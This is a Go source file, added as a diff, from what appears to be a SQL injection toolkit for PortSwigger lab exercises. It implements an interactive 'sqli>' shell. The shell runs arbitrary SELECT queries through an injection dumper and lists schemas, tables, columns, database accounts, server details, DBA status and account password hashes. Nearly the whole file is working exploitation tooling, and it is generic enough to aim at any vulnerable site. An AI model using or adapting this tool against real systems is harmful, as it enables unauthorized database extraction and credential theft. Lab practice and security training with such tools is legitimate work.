@@ -0,0 +1,402 @@
+package shell
+
+import (
+	"bufio"
+	"encoding/csv"
+	"fmt"
+	"io"
+	"os"
+	"strconv"
+	"strings"
+
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/logger"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/sqli"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/utility"
+)
+
+const (
+	MODE_TABLE = "table"
+	MODE_CSV   = "csv"
+)
+
+const help = `Enter a SELECT query or bare expressions, e.g. "SELECT username, password FROM users" or "version()".
+Commands:
+  .schemas             List schemas
+  .tables [schema]     List tables, of every schema by default
+  .columns [schema.]t  List the columns of table t
+  .env                 Show the current user, database, hostname and DBA status
+  .users               List the database accounts
+  .hashes              List the password hashes of the accounts, usually needs DBA privileges
+  .mode table|csv      Choose the output format
+  .limit n             Retrieve at most n rows per query, 0 for no limit
+  .history             Show previous commands, rerun one with !n or the last with !!
+  .help                Show this help
+  .quit                Leave the shell`
+
+// Shell is an interactive SQL prompt whose queries run through the injection.
+type Shell struct {
+	dumper *sqli.Dumper
+	db     constant.Database
+	out    io.Writer
+
+	Mode        string // MODE_TABLE or MODE_CSV
+	Limit       int    // Maximum rows per query, 0 for no limit
+	HistoryFile string // Commands are loaded from and appended to this file, if set
+
+	history []string
+}
+
+// New returns a shell that runs queries through the dumper's technique and writes results to out.
+func New(dumper *sqli.Dumper, db constant.Database, out io.Writer) *Shell {
+	return &Shell{
+		dumper: dumper,
+		db:     db,
+		out:    out,
+		Mode:   MODE_TABLE,
+	}
+}
+
+// Run reads commands from in until it is exhausted or .quit is entered.
+func (s *Shell) Run(in io.Reader) error {
+	s.loadHistory()
+	fmt.Fprintln(s.out, `Type ".help" for usage hints.`)
+
+	scanner := bufio.NewScanner(in)
+	for {
+		fmt.Fprint(s.out, "sqli> ")
+		if !scanner.Scan() {
+			fmt.Fprintln(s.out)
+			return scanner.Err()
+		}
+		line := strings.TrimSpace(scanner.Text())
+		if line == "" {
+			continue
+		}
+
+		line, err := s.recall(line)
+		if err != nil {
+			logger.Warning(err.Error())
+			continue
+		}
+		s.remember(line)
+
+		quit, err := s.Execute(line)
+		if err != nil {
+			logger.Warning(err.Error())
+		}
+		if quit {
+			return nil
+		}
+	}
+}
+
+// Execute runs one command or query and reports whether the shell should exit.
+func (s *Shell) Execute(line string) (bool, error) {
+	if !strings.HasPrefix(line, ".") {
+		return false, s.query(line)
+	}
+
+	command, argument, _ := strings.Cut(line, " ")
+	argument = strings.TrimSpace(argument)
+	switch command {
+	case ".quit", ".exit":
+		return true, nil
+	case ".help":
+		fmt.Fprintln(s.out, help)
+	case ".schemas":
+		schemas, err := s.dumper.ListSchemas()
+		if err != nil {
+			return false, err
+		}
+		s.print([]string{"schema"}, column(schemas))
+	case ".tables":
+		return false, s.tables(argument)
+	case ".columns":
+		if argument == "" {
+			return false, fmt.Errorf("usage: .columns [schema.]table")
+		}
+		schema, table, found := strings.Cut(argument, ".")
+		if !found {
+			schema, table = "", argument
+		}
+		columns, err := s.dumper.ListColumns(schema, table)
+		if err != nil {
+			return false, err
+		}
+		s.print([]string{"column"}, column(columns))
+	case ".env":
+		return false, s.environment()
+	case ".users":
+		users, err := s.dumper.ListUsers()
+		if err != nil {
+			return false, err
+		}
+		s.print([]string{"user"}, column(users))
+	case ".hashes":
+		hashes, err := s.dumper.ListPasswordHashes()
+		if err != nil {
+			return false, err
+		}
+		rows := make([][]string, len(hashes))
+		for i, hash := range hashes {
+			rows[i] = []string{hash.User, hash.Hash}
+		}
+		s.print([]string{"user", "hash"}, rows)
+	case ".mode":
+		if argument != MODE_TABLE && argument != MODE_CSV {
+			return false, fmt.Errorf("usage: .mode %s|%s", MODE_TABLE, MODE_CSV)
+		}
+		s.Mode = argument
+	case ".limit":
+		limit, err := strconv.Atoi(argument)
+		if err != nil || limit < 0 {
+			return false, fmt.Errorf("usage: .limit n")
+		}
+		s.Limit = limit
+	case ".history":
+		for i, entry := range s.history {
+			fmt.Fprintf(s.out, "%4d  %s\n", i+1, entry)
+		}
+	default:
+		return false, fmt.Errorf("unknown command %s, see .help", command)
+	}
+	return false, nil
+}
+
+// query selects every expression of the query as an aliased column of a derived table,
+// so WHERE, GROUP BY and joins in the query are kept as written. An ORDER BY is applied
+// to the derived table's columns, as the order of a derived table is not kept by the
+// query around it. Items that are not selected become hidden columns to order by.
+func (s *Shell) query(input string) error {
+	expressions, from, err := parseSelect(input)
+	if err != nil {
+		return err
+	}
+	from, order, tail, err := splitOrderBy(from)
+	if err != nil {
+		return err
+	}
+
+	aliases := make([]string, len(expressions))
+	aliased := make([]string, len(expressions))
+	for i, expression := range expressions {
+		aliases[i] = fmt.Sprintf("qzx_c%d", i+1)
+		aliased[i] = expression + " AS " + aliases[i]
+	}
+	orderBy := make([]string, len(order))
+	for i, item := range order {
+		direction := orderDirection.FindString(item)
+		expression := strings.TrimSpace(strings.TrimSuffix(item, direction))
+		column := orderColumn(expression, expressions, aliases)
+		if column == "" {
+			column = fmt.Sprintf("qzx_o%d", i+1)
+			aliased = append(aliased, expression+" AS "+column)
+		}
+		orderBy[i] = column + direction
+	}
+
+	inner := "SELECT " + strings.Join(aliased, ",")
+	if from == "" {
+		inner += s.db.From("")
+	} else {
+		inner += " " + from
+	}
+	if tail != "" {
+		// LIMIT and the like pick rows by the original order, so it stays in the derived table
+		inner += " ORDER BY " + strings.Join(order, ",") + " " + tail
+	}
+
+	table := "(" + inner + ") qzx_q"
+	var rows [][]string
+	if len(orderBy) > 0 {
+		rows, err = s.dumper.SelectOrderedRows(aliases, table, "", strings.Join(orderBy, ","), s.Limit)
+	} else {
+		rows, err = s.dumper.SelectRows(aliases, table, "", s.Limit)
+	}
+	if err != nil {
+		return err
+	}
+	s.print(expressions, rows)
+	return nil
+}
+
+// orderColumn returns the alias of the selected expression an ORDER BY item refers to, by
+// position or by repeating it, or an empty string when the item is not selected.
+func orderColumn(item string, expressions []string, aliases []string) string {
+	if position, err := strconv.Atoi(item); err == nil && position >= 1 && position <= len(aliases) {
+		return aliases[position-1]
+	}
+	for i, expression := range expressions {
+		if strings.EqualFold(expression, item) {
+			return aliases[i]
+		}
+	}
+	return ""
+}
+
+func (s *Shell) tables(schema string) error {
+	schemas := []string{schema}
+	if schema == "" {
+		var err error
+		if schemas, err = s.dumper.ListSchemas(); err != nil {
+			return err
+		}
+	}
+
+	var rows [][]string
+	for _, schema := range schemas {
+		tables, err := s.dumper.ListTables(schema)
+		if err != nil {
+			return err
+		}
+		for _, table := range tables {
+			rows = append(rows, []string{schema, table})
+		}
+	}
+	s.print([]string{"schema", "table"}, rows)
+	return nil
+}
+
+// environment prints the facts about the server the dialect reveals, one per row.
+func (s *Shell) environment() error {
+	facts := []struct {
+		name  string
+		query string
+		get   func() (string, error)
+	}{
+		{"current user", s.db.Environment.CurrentUser, s.dumper.CurrentUser},
+		{"current database", s.db.Environment.CurrentDatabase, s.dumper.CurrentDatabase},
+		{"hostname", s.db.Environment.Hostname, s.dumper.Hostname},
+		{"dba", s.db.Environment.DBACondition, func() (string, error) {
+			isDBA, err := s.dumper.IsDBA()
+			return strconv.FormatBool(isDBA), err
+		}},
+	}
+
+	var rows [][]string
+	for _, fact := range facts {
+		if fact.query == "" {
+			continue
+		}
+		value, err := fact.get()
+		if err != nil {
+			return err
+		}
+		rows = append(rows, []string{fact.name, value})
+	}
+	s.print([]string{"fact", "value"}, rows)
+	return nil
+}
+
+// print writes the rows in the current mode, with NULL values shown as NULL.
+func (s *Shell) print(header []string, rows [][]string) {
+	for _, row := range rows {
+		for i, value := range row {
+			if value == constant.NULL_VALUE {
+				row[i] = "NULL"
+			}
+		}
+	}
+
+	if s.Mode == MODE_CSV {
+		writer := csv.NewWriter(s.out)
+		writer.Write(header)
+		writer.WriteAll(rows)
+		return
+	}
+
+	widths := make([]int, len(header))
+	for i, name := range header {
+		widths[i] = len(name)
+	}
+	for _, row := range rows {
+		for i, value := range row {
+			if i < len(widths) {
+				widths[i] = max(widths[i], len(value))
+			}
+		}
+	}
+
+	line := func(values []string) {
+		cells := make([]string, len(widths))
+		for i := range widths {
+			value := ""
+			if i < len(values) {
+				value = values[i]
+			}
+			cells[i] = value + strings.Repeat(" ", widths[i]-len(value))
+		}
+		fmt.Fprintln(s.out, strings.TrimRight(strings.Join(cells, " | "), " "))
+	}
+	separators := make([]string, len(widths))
+	for i, width := range widths {
+		separators[i] = strings.Repeat("-", width)
+	}
+
+	line(header)
+	fmt.Fprintln(s.out, strings.Join(separators, "-+-"))
+	for _, row := range rows {
+		line(row)
+	}
+	fmt.Fprintf(s.out, "(%d rows)\n", len(rows))
+}
+
+// recall expands !! and !n into the command they refer to.
+func (s *Shell) recall(line string) (string, error) {
+	if !strings.HasPrefix(line, "!") {
+		return line, nil
+	}
+	index := len(s.history)
+	if line != "!!" {
+		n, err := strconv.Atoi(line[1:])
+		if err != nil {
+			return "", fmt.Errorf("usage: !n or !!")
+		}
+		index = n
+	}
+	if index < 1 || index > len(s.history) {
+		return "", fmt.Errorf("no command %s in history", line)
+	}
+	recalled := s.history[index-1]
+	fmt.Fprintln(s.out, recalled)
+	return recalled, nil
+}
+
+func (s *Shell) remember(line string) {
+	s.history = append(s.history, line)
+	if s.HistoryFile == "" {
+		return
+	}
+	file, err := os.OpenFile(s.HistoryFile, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o600)
+	if err != nil {
+		logger.Debugf("Failed to save history: %s", err.Error())
+		return
+	}
+	defer utility.SafeClose(file)
+	fmt.Fprintln(file, line)
+}
+
+func (s *Shell) loadHistory() {
+	if s.HistoryFile == "" {
+		return
+	}
+	content, err := os.ReadFile(s.HistoryFile)
+	if err != nil {
+		return
+	}
+	for _, line := range strings.Split(string(content), "\n") {
+		if line != "" {
+			s.history = append(s.history, line)
+		}
+	}
+}
+
+// column turns a list of values into single-column rows.
+func column(values []string) [][]string {
+	rows := make([][]string, len(values))
+	for i, value := range values {
+		rows[i] = []string{value}
+	}
+	return rows
+}